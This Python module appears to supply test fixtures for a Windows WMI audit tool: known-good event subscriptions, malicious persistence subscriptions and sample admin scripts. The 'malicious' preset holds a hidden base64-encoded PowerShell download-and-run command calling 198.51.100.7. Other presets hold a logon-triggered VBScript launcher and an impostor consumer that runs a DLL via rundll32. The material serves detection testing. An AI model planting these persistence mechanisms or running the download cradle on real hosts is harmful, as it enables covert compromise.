"""Canned host content: permanent event subscriptions and script files, as they appear on real Windows hosts.

Known-good subscriptions: ``BVTConsumer``/``BVTFilter`` (a CommandLineEventConsumer running KernCap.vbs, shipped with
Windows 2000/XP/2003) and ``SCM Event Log Consumer``/``SCM Event Log Filter`` (an NTEventLogEventConsumer present
from Vista/2008 on). The malicious one is the classic uptime-triggered CommandLineEventConsumer persistence
(MITRE ATT&CK T1546.003) with an encoded PowerShell command line.
"""

from __future__ import annotations

import base64
from typing import Any

from .profiles import OsProfile

SUB = "root\\subscription"

_Preset = tuple[list[dict[str, Any]], list[dict[str, Any]], list[dict[str, Any]]]

_BVT: _Preset = (
    [
        {
            "namespace": SUB,
            "name": "BVTFilter",
            "query": "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
            '"Win32_Processor" AND TargetInstance.LoadPercentage > 99',
            "event_namespace": "root\\cimv2",
            "creator_sid": "S-1-5-32-544",
        }
    ],
    [
        {
            "namespace": SUB,
            "name": "BVTConsumer",
            "cls": "CommandLineEventConsumer",
            "command_line_template": "cscript KernCap.vbs",
            "executable_path": "C:\\\\tools\\\\kernrate\\\\kernrate.exe",
        }
    ],
    [
        {
            "namespace": SUB,
            "filter": '__EventFilter.Name="BVTFilter"',
            "consumer": 'CommandLineEventConsumer.Name="BVTConsumer"',
        }
    ],
)

_SCM: _Preset = (
    [
        {
            "namespace": SUB,
            "name": "SCM Event Log Filter",
            "query": "select * from MSFT_SCMEventLogEvent",
            "event_namespace": "root\\cimv2",
            "creator_sid": "S-1-5-32-544",
        }
    ],
    [{"namespace": SUB, "name": "SCM Event Log Consumer", "cls": "NTEventLogEventConsumer"}],
    [
        {
            "namespace": SUB,
            "filter": '__EventFilter.Name="SCM Event Log Filter"',
            "consumer": 'NTEventLogEventConsumer.Name="SCM Event Log Consumer"',
        }
    ],
)

_PAYLOAD = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')".encode("utf-16-le")
)
_MALICIOUS: _Preset = (
    [
        {
            "namespace": SUB,
            "name": "WindowsUpdateHealth",
            "query": "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
            "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND "
            "TargetInstance.SystemUpTime < 325",
            "event_namespace": "root\\cimv2",
            "creator_sid": None,  # filled with the admin account's SID: the attacker used a stolen admin logon
        }
    ],
    [
        {
            "namespace": SUB,
            "name": "WindowsUpdateHealth",
            "cls": "CommandLineEventConsumer",
            "command_line_template": f"powershell.exe -NoP -NonI -W Hidden -Enc {_PAYLOAD.decode()}",
            "executable_path": None,
        }
    ],
    [
        {
            "namespace": SUB,
            "filter": '__EventFilter.Name="WindowsUpdateHealth"',
            "consumer": 'CommandLineEventConsumer.Name="WindowsUpdateHealth"',
        }
    ],
)

_ACTIVE_SCRIPT: _Preset = (
    [
        {
            "namespace": "root\\default",
            "name": "LogonAudit",
            "query": "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_LogonSession'",
            "event_namespace": "root\\cimv2",
            "creator_sid": None,
        }
    ],
    [
        {
            "namespace": "root\\default",
            "name": "LogonAudit",
            "cls": "ActiveScriptEventConsumer",
            "scripting_engine": "VBScript",
            "script_text": 'Set sh = CreateObject("WScript.Shell")\nsh.Run "C:\\ProgramData\\svc\\upd.exe", 0',
        }
    ],
    [
        {
            "namespace": "root\\default",
            "filter": '__EventFilter.Name="LogonAudit"',
            "consumer": 'ActiveScriptEventConsumer.Name="LogonAudit"',
        }
    ],
)

# Benign but not built-in: an administrator's LogFileEventConsumer that logs low disk space (allow-list material).
_DISK_LOG: _Preset = (
    [
        {
            "namespace": SUB,
            "name": "LowDiskSpace",
            "query": "SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA "
            "'Win32_LogicalDisk' AND TargetInstance.FreeSpace < 1073741824",
            "event_namespace": "root\\cimv2",
            "creator_sid": None,
        }
    ],
    [
        {
            "namespace": SUB,
            "name": "DiskSpaceLog",
            "cls": "LogFileEventConsumer",
            "properties": {"Filename": "C:\\Logs\\disk.log", "Text": "%TargetInstance.DeviceID% is low on space"},
        }
    ],
    [
        {
            "namespace": SUB,
            "filter": '__EventFilter.Name="LowDiskSpace"',
            "consumer": 'LogFileEventConsumer.Name="DiskSpaceLog"',
        }
    ],
)

# A CommandLineEventConsumer named like the built-in SCM consumer and bound to the built-in SCM filter: a consumer's
# key is its class and its name, so it sits beside the real NTEventLogEventConsumer (use with "scm").
_IMPOSTOR: _Preset = (
    [],
    [
        {
            "namespace": SUB,
            "name": "SCM Event Log Consumer",
            "cls": "CommandLineEventConsumer",
            "command_line_template": "C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\scm\\svc.dll,Start",
            "executable_path": None,
        }
    ],
    [
        {
            "namespace": SUB,
            "filter": '__EventFilter.Name="SCM Event Log Filter"',
            "consumer": 'CommandLineEventConsumer.Name="SCM Event Log Consumer"',
        }
    ],
)


def _moved(preset: _Preset, namespace: str) -> _Preset:
    """The same subscription registered in another namespace (any namespace can hold one)."""
    filters, consumers, bindings = preset
    return (
        [{**f, "namespace": namespace} for f in filters],
        [{**c, "namespace": namespace} for c in consumers],
        [{**b, "namespace": namespace} for b in bindings],
    )


SUBSCRIPTION_PRESETS: dict[str, _Preset] = {
    "bvt": _BVT,
    "scm": _SCM,
    "malicious": _MALICIOUS,
    # The malicious subscription outside root\subscription and root\default, where a look at those two misses it.
    "malicious_cimv2": _moved(_MALICIOUS, "root\\cimv2"),
    "active_script": _ACTIVE_SCRIPT,
    "disk_log": _DISK_LOG,
    "impostor": _IMPOSTOR,
}


def default_subscription_presets(profile: OsProfile) -> list[str]:
    """BVT shipped with 2000/XP/2003; the SCM consumer from Vista/2008 on; NT 4.0 had neither."""
    if profile.nt4_style_namespaces:
        return []
    return ["bvt"] if profile.major_minor <= (5, 2) else ["scm"]


def subscription_preset(
    name: str, admin_sid: str
) -> tuple[list[dict[str, Any]], list[dict[str, Any]], list[dict[str, Any]]]:
    try:
        filters, consumers, bindings = SUBSCRIPTION_PRESETS[name]
    except KeyError:
        raise ValueError(f"unknown subscription preset {name!r}; known: {', '.join(SUBSCRIPTION_PRESETS)}") from None
    filters = [{**f, "creator_sid": f["creator_sid"] or admin_sid} for f in filters]
    return filters, [dict(c) for c in consumers], [dict(b) for b in bindings]


def _vbs(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode("cp1252")


def script_preset(name: str, dns_host_name: str, computer_name: str) -> dict[str, bytes]:
    """Script files for the legacy-script audit (paths as on the host)."""
    presets: dict[str, dict[str, bytes]] = {
        # Uses the removed ADSI-WMI extension (WMIObjectPath / GetWMIObject / GetWMIServices).
        "legacy_adsi": {
            "C:\\Scripts\\inventory.vbs": _vbs(
                "' Inventory via the ADSI extension for WMI\n"
                f'Set objComputer = GetObject("LDAP://CN={computer_name},OU=Servers,DC=corp,DC=example,DC=com")\n'
                "WScript.Echo objComputer.WMIObjectPath\n"
                "Set objWmi = objComputer.GetWMIObject()\n"
                "WScript.Echo objWmi.Caption\n"
            ),
            "C:\\Scripts\\legacy\\services.wsf": _vbs(
                '<job id="services"><script language="JScript">\n'
                f'var computer = GetObject("LDAP://CN={computer_name},CN=Computers,DC=corp,DC=example,DC=com");\n'
                "var services = computer.GetWMIServices();\n"
                'var e = new Enumerator(services.InstancesOf("Win32_Service"));\n'
                "for (; !e.atEnd(); e.moveNext()) { WScript.Echo(e.item().Name); }\n"
                "</script></job>\n"
            ),
        },
        # Asynchronous WMI: callbacks through unsecapp.exe.
        "async_sink": {
            "C:\\Scripts\\watch_services.vbs": _vbs(
                'Set objWMIService = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2")\n'
                'Set objSink = WScript.CreateObject("WbemScripting.SWbemSink", "SINK_")\n'
                'objWMIService.ExecNotificationQueryAsync objSink, "SELECT * FROM __InstanceModificationEvent '
                "WITHIN 5 WHERE TargetInstance ISA 'Win32_Service'\"\n"
                "Do: WScript.Sleep 1000: Loop\n"
                "Sub SINK_OnObjectReady(objObject, objAsyncContext)\n"
                "    WScript.Echo objObject.TargetInstance.Name\n"
                "End Sub\n"
            ),
            # Saved as UTF-16 LE with a BOM, as Notepad's "Unicode" does: readers must not assume ANSI.
            "C:\\Scripts\\async_procs.js": "\ufeff"
            "var svc = GetObject('winmgmts:\\\\\\\\.\\\\root\\\\cimv2');\r\n"
            "var sink = WScript.CreateObject('WbemScripting.SWbemSink', 'SINK_');\r\n"
            "svc.InstancesOfAsync(sink, 'Win32_Process');\r\n".encode("utf-16-le"),
        },
        # Clean: semisynchronous WMI with a moniker built from the DNS host name.
        "clean": {
            "C:\\Scripts\\disk_report.vbs": _vbs(
                f'Set objWMIService = GetObject("winmgmts:{{impersonationLevel=impersonate}}!//{dns_host_name}'
                '/root/cimv2")\n'
                'Set colDisks = objWMIService.ExecQuery("SELECT * FROM Win32_LogicalDisk WHERE DriveType = 3")\n'
                'For Each objDisk In colDisks\n    WScript.Echo objDisk.DeviceID & " " & objDisk.FreeSpace\nNext\n'
            ),
            "C:\\Scripts\\Get-Inventory.ps1": (
                b"Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption, Version\r\n"
            ),
            "C:\\Scripts\\readme.txt": b"Operations scripts. Not a script type the audit reads.\r\n",
        },
    }
    try:
        return presets[name]
    except KeyError:
        raise ValueError(f"unknown script preset {name!r}; known: {', '.join(presets)}") from None
